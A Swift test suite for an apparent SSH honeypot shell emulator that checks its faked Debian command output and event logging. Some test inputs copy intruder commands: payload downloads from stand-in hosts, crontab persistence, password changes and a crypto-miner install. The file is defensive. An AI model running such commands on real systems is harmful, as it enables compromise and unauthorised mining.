import MitsuCore
@testable import MitsuShell
import XCTest

/// Literal expected output per command, as Debian 12 prints it for the fixture persona
/// (hostname web01, 4 CPUs, 8140612 kB, eth0 10.20.30.40 52:54:00:ab:cd:ef).
final class CommandOutputTests: XCTestCase {
    func out(_ line: String) async -> String { await Fixture.exec(line).out }

    func testUname() async {
        let a = await out("uname -a")
        XCTAssertEqual(a, "Linux web01 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64 GNU/Linux\n")
        let parts = await out("uname; uname -m; uname -r; uname -s -n; uname -p")
        XCTAssertEqual(parts, "Linux\nx86_64\n6.1.0-28-amd64\nLinux web01\nunknown\n")
        let bad = await Fixture.exec("uname -z")
        XCTAssertEqual(bad.err, "uname: invalid option -- 'z'\nTry 'uname --help' for more information.\n")
        XCTAssertEqual(bad.status, 1)
    }

    func testIdentity() async {
        let text = await out("id; whoami; hostname; nproc")
        XCTAssertEqual(text, "uid=0(root) gid=0(root) groups=0(root)\nroot\nweb01\n4\n")
        let user = await Fixture.exec("id; pwd", user: "deploy")
        XCTAssertEqual(user.out, "uid=1000(deploy) gid=1000(deploy) groups=1000(deploy),24(cdrom),25(floppy),29(audio),30(dip),44(video),46(plugdev),100(users)\n/home/deploy\n")
    }

    func testRecon() async {
        let n = await out("cat /proc/cpuinfo | grep name | wc -l")
        XCTAssertEqual(n, "4\n")
        let model = await out("cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'")
        XCTAssertEqual(model, "Intel(R) Xeon(R) CPU E5-2680 v4 @\n")
        let mem = await out("free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'")
        XCTAssertEqual(mem, "7949 1510 4610 39 1828 6518\n")
        let lscpu = await out("lscpu | grep Model")
        XCTAssertEqual(lscpu, "  Model name:             Intel(R) Xeon(R) CPU E5-2680 v4 @ 2.40GHz\n    Model:                79\n")
        let which = await out("which ls; ls -lh $(which ls)")
        XCTAssertTrue(which.hasPrefix("/usr/bin/ls\n-rwxr-xr-x 1 root root 148K "), which)
        XCTAssertTrue(which.hasSuffix(" /usr/bin/ls\n"), which)
        let disk = await out("df -h | head -n 2 | awk 'FNR == 2 {print $2;}'")
        XCTAssertEqual(disk, "3.9G\n")
    }

    func testFree() async {
        let text = await out("free")
        XCTAssertEqual(text, """
                       total        used        free      shared  buff/cache   available
        Mem:         8140612     1546718     4721554       40703     1872340     6675301
        Swap:              0           0           0

        """)
    }

    func testEchoEscapes() async {
        let r = await Fixture.exec("echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\0101'; echo -e 'a\\tb\\c'; echo -n x; echo '\\x41'")
        XCTAssertEqual(r.outBytes, [0x7F, 0x45, 0x4C, 0x46, 0x01, 0x41] + Array("a\tbx\\x41\n".utf8))
    }

    func testPrintf() async {
        let text = await out("printf '%s-%d|%5s|%-3s|%x\\n' a 42 b c 255; printf '%s\\n' one two; printf '\\x41\\102\\n'")
        XCTAssertEqual(text, "a-42|    b|c  |ff\none\ntwo\nAB\n")
    }

    func testBusybox() async {
        let probe = await Fixture.exec("/bin/busybox ECCHI")
        XCTAssertEqual(probe.err, "ECCHI: applet not found\n")
        XCTAssertEqual(probe.status, 127)
        let applet = await out("busybox echo hi; /bin/busybox cat /proc/version | cut -c1-13")
        XCTAssertEqual(applet, "hi\nLinux version\n")
        let elf = await Fixture.exec("cat /bin/echo | head -c 20")
        XCTAssertEqual(Array(elf.outBytes.prefix(20)), [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0x3E, 0])
    }

    func testFilesAndRedirects() async {
        let r = await Fixture.exec("cd /tmp; echo abc > f; echo def >> f; cat f; wc -c < f; ls; rm f; ls -a; cat f")
        XCTAssertEqual(r.out, "abc\ndef\n8\nf\n.\n..\n")
        XCTAssertEqual(r.err, "cat: f: No such file or directory\n")
        let created = r.events.filter { $0.kind == .fileCreated }
        XCTAssertEqual(created.map(\.filename), ["/tmp/f", "/tmp/f"])
        XCTAssertEqual(created.last?.sha256, Digests.sha256(Array("abc\ndef\n".utf8)))
        XCTAssertEqual(created.last?.size, 8)
        let stored = Fixture.artifactsRoot + "/sha256/" + (created.last?.sha256?.prefix(2) ?? "") + "/" + (created.last?.sha256 ?? "")
        XCTAssertEqual(FileManager.default.contents(atPath: stored).map { Array($0) }, Array("abc\ndef\n".utf8))
    }

    func testStderrRedirects() async {
        let r = await Fixture.exec("cat /nope 2>/dev/null; echo $?; cat /nope 2>&1 | wc -l; ls /nope > /tmp/x 2>&1; cat /tmp/x")
        XCTAssertEqual(r.out, "1\n1\nls: cannot access '/nope': No such file or directory\n")
        XCTAssertEqual(r.err, "")
    }

    func testChmodAndScripts() async {
        let r = await Fixture.exec("cd /tmp && printf 'echo from script $1\\nexit 3\\n' > s.sh && ./s.sh; echo $?; chmod +x s.sh; ./s.sh x; echo $?; sh s.sh y; ls -l s.sh | cut -c1-10")
        XCTAssertEqual(r.out, "126\nfrom script x\n3\nfrom script y\n-rwxr-xr-x\n")
        XCTAssertEqual(r.err, "bash: line 1: ./s.sh: Permission denied\n")
    }

    func testBase64DecodeStoresFile() async {
        let r = await Fixture.exec("echo f0VMRgIBAQ== | base64 -d > /tmp/bin; od /tmp/bin 2>/dev/null; cat /tmp/bin | md5sum")
        XCTAssertEqual(r.out, Digests.md5([0x7F, 0x45, 0x4C, 0x46, 2, 1, 1]) + "  -\n")
        XCTAssertEqual(r.events.first { $0.kind == .fileCreated }?.sha256, Digests.sha256([0x7F, 0x45, 0x4C, 0x46, 2, 1, 1]))
    }

    func testWgetOffline() async {
        let r = await Fixture.exec("cd /tmp; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; curl -O http://evil.invalid/x")
        XCTAssertTrue(r.err.contains("--  http://198.51.100.9/bins.sh\nConnecting to 198.51.100.9:80... failed: Connection refused.\n"), r.err)
        XCTAssertTrue(r.err.contains("chmod: cannot access 'bins.sh': No such file or directory\n"), r.err)
        XCTAssertTrue(r.err.hasSuffix("curl: (6) Could not resolve host: evil.invalid\n"), r.err)
        XCTAssertEqual(r.events.first?.url, "http://198.51.100.9/bins.sh")
    }

    func testControlFlow() async {
        let text = await out("for i in 1 2 3; do echo $i; done; i=0; while [ $i -lt 2 ]; do i=$((i+1)); echo w$i; done; if [ -d /tmp ]; then echo yes; else echo no; fi; case x86_64 in arm*) echo arm;; x86*) echo x86;; esac")
        XCTAssertEqual(text, "1\n2\n3\nw1\nw2\nyes\nx86\n")
    }

    func testCommandSubstitutionAndVariables() async {
        let text = await out("A=$(echo hi); B=`uname -m`; echo \"$A-$B\" '$A'; echo ${C:-dflt} ${#A}; sh -c 'echo $0 $1' zero one")
        XCTAssertEqual(text, "hi-x86_64 $A\ndflt 2\nzero one\n")
    }

    func testCrontabAndPasswd() async {
        let r = await Fixture.exec("crontab -l; echo '* * * * * /tmp/x' | crontab -; crontab -l; echo -e 'pw\\npw' | passwd")
        XCTAssertEqual(r.err, "no crontab for root\nNew password: \nRetype new password: ")
        XCTAssertEqual(r.out, "* * * * * /tmp/x\n\npasswd: password updated successfully\n")
    }

    func testUnknownAndMissingTools() async {
        let r = await Fixture.exec("yum install -y wget; python -c 'print(1)'; lockr -ia .ssh")
        XCTAssertEqual(r.err, "bash: line 1: yum: command not found\nbash: line 1: python: command not found\nbash: line 1: lockr: command not found\n")
        XCTAssertEqual(r.events.filter { $0.kind == .commandFailed }.count, 3)
    }
}

final class SystemCommandOutputTests: XCTestCase {
    func testDfLayout() async {
        let r = await Fixture.exec("df -h")
        XCTAssertEqual(r.out, """
        Filesystem      Size  Used Avail Use% Mounted on
        udev            3.9G     0  3.9G   0% /dev
        tmpfs           795M  548K  795M   1% /run
        /dev/vda1        78G  5.6G   68G   8% /
        tmpfs           3.9G     0  3.9G   0% /dev/shm

        """)
    }

    func testIfconfigAndIp() async {
        let r = await Fixture.exec("ifconfig | head -4; ip a | grep inet6 | tail -1; ip route")
        XCTAssertEqual(r.out, """
        eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500
                inet 10.20.30.40  netmask 255.255.255.0  broadcast 10.20.30.255
                inet6 fe80::5054:ff:feab:cdef  prefixlen 64  scopeid 0x20<link>
                ether 52:54:00:ab:cd:ef  txqueuelen 1000  (Ethernet)
            inet6 fe80::5054:ff:feab:cdef/64 scope link 
        default via 10.20.30.1 dev eth0 
        10.20.30.0/24 dev eth0 proto kernel scope link src 10.20.30.40 

        """)
    }

    func testLsLong() async {
        let r = await Fixture.exec("ls -l /usr/bin/sh /dev/null /etc/hostname; ls -ld /tmp")
        let lines = r.out.split(separator: "\n").map { String($0) }
        XCTAssertEqual(lines.count, 4)
        XCTAssertTrue(lines[0].hasPrefix("crw-rw-rw- 1 root root 1, 3 "), lines[0])
        XCTAssertTrue(lines[1].hasPrefix("-rw-r--r-- 1 root root    6 "), lines[1])
        XCTAssertTrue(lines[1].hasSuffix(" /etc/hostname"), lines[1])
        XCTAssertEqual(lines[2], "lrwxrwxrwx 1 root root    4 Jan  5  2023 /usr/bin/sh -> dash")
        XCTAssertTrue(lines[3].hasPrefix("drwxrwxrwt 2 root root 4096 "), lines[3])
    }

    func testPsShowsOwnSession() async {
        let r = await Fixture.exec("ps aux | grep -c sshd; ps -ef | head -2 | tail -1 | cut -c1-28")
        XCTAssertEqual(r.out, "2\nroot           1       0  0 \n")
    }

    func testW() async {
        let r = await Fixture.exec("w | tail -1 | cut -c1-35; uptime | grep -c 'up 3 days,  1:01,  1 user'")
        XCTAssertEqual(r.out, "root     pts/0    198.51.100.7     \n1\n")
    }
}

final class MoreCommandOutputTests: XCTestCase {
    func testPidofTarSsh() async {
        let r = await Fixture.exec("pidof xmrig; echo $?; pidof cron; tar xzf x.tgz; ssh root@192.0.2.1 id")
        XCTAssertEqual(r.out, "1\n436\n")
        XCTAssertEqual(r.err, "tar: x.tgz: Cannot open: No such file or directory\ntar: Error is not recoverable: exiting now\nssh: connect to host 192.0.2.1 port 22: Connection refused\n")
    }

    func testSedAwkCutSortUniq() async {
        let r = await Fixture.exec("printf 'b 2\\na 1\\nb 2\\n' | sort | uniq -c; echo hello world | sed 's/o/0/g'; echo a:b:c | cut -d: -f2-; echo 'x y z' | awk '{print $NF}'; head -1 /etc/passwd | awk -F: '{print $1\" \"$7}'")
        XCTAssertEqual(r.out, "      1 a 1\n      2 b 2\nhell0 w0rld\nb:c\nz\nroot /bin/bash\n")
    }

    func testCheckSumsAndTee() async {
        let r = await Fixture.exec("echo -n abc | sha256sum; echo -n abc | md5sum; echo data | tee /tmp/t >/dev/null; cat /tmp/t")
        XCTAssertEqual(r.out, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad  -\n900150983cd24fb0d6963f7d28e17f72  -\ndata\n")
        XCTAssertEqual(r.events.filter { $0.kind == .fileCreated }.map(\.filename), ["/tmp/t"])
    }

    func testUseraddAndChpasswd() async {
        let r = await Fixture.exec("useradd -m sysadm; grep -c sysadm /etc/passwd; echo 'sysadm:x' | chpasswd; echo $?; echo 'ghost:x' | chpasswd; echo $?")
        XCTAssertEqual(r.out, "1\n0\n1\n")
    }

    func testSystemctlAndApt() async {
        let r = await Fixture.exec("systemctl is-active ssh; systemctl restart nothing; apt-get install -y xmrig")
        XCTAssertEqual(r.out, "active\nReading package lists... Done\nBuilding dependency tree... Done\nReading state information... Done\n")
        XCTAssertEqual(r.err, "Failed to restart nothing.service: Unit nothing.service not found.\nE: Unable to locate package xmrig\n")
    }
}

final class InfoCommandOutputTests: XCTestCase {
    func testHostnamectlWhereisDu() async {
        let r = await Fixture.exec("hostnamectl | head -1; hostnamectl | grep Kernel; whereis wget; cd /tmp; mkdir d; echo hi > d/f; du -s d")
        XCTAssertEqual(r.out, " Static hostname: web01\n          Kernel: Linux 6.1.0-28-amd64\nwget: /usr/bin/wget /usr/share/man/man1/wget.1.gz\n8\td\n")
    }
}

/// Expected digests computed with Python hashlib and GNU coreutils on the build machine, written literally.
final class ChecksumCommandTests: XCTestCase {
    func testShaFamilyOnStdinAndFiles() async {
        let r = await Fixture.exec("echo -n abc | sha1sum; cd /tmp; echo hello > f; sha1sum f nope /tmp; echo $?; sha512sum -b f; sha384sum f; echo -n abc | busybox sha1sum")
        XCTAssertEqual(r.out, """
        a9993e364706816aba3e25717850c26c9cd0d89d  -
        f572d396fae9206628714fb2ce00f72e94f2258f  f
        1
        e7c22b994c59d9cf2b48e549b1e24666636045930d3da7c1acb299d1c3b7f931f94aae41edda2c2b207a36e10f8bcb8d45223e54878f5b316e7ce3b6bc019629 *f
        1d0f284efe3edea4b9ca3bd514fa134b17eae361ccc7a1eefeff801b9bd6604e01f21f6bf249ef030599f0c218f2ba8c  f
        a9993e364706816aba3e25717850c26c9cd0d89d  -

        """)
        XCTAssertEqual(r.err, "sha1sum: nope: No such file or directory\nsha1sum: /tmp: Is a directory\n")
    }

    func testSha224sumAsCoreutilsPrintsIt() async {
        let r = await Fixture.exec("echo -n abc | sha224sum; cd /tmp; echo hello > f; sha224sum -b f; which sha224sum")
        XCTAssertEqual(r.out, """
        23097d223405d8228642a477bda255b32aadbce4bda0b3f7e36c9da7  -
        2d6d67d91d0badcdd06cbbba1fe11538a68a37ec9c2e26457ceff12b *f
        /usr/bin/sha224sum

        """)
    }

    func testSha512OfStdinAndEscapedName() async {
        let r = await Fixture.exec("echo -n abc | sha512sum -; echo hello > '/tmp/a\\b'; sha1sum '/tmp/a\\b'; which sha1sum sha512sum")
        XCTAssertEqual(r.out, """
        ddaf35a193617abacc417349ae20413112e6fa4e89a97ea20a9eeee64b55d39a2192992a274fc1a836ba3c23a3feebbd454d4423643ce80e2a9ac94fa54ca49f  -
        \\f572d396fae9206628714fb2ce00f72e94f2258f  /tmp/a\\\\b
        /usr/bin/sha1sum
        /usr/bin/sha512sum

        """)
    }
}
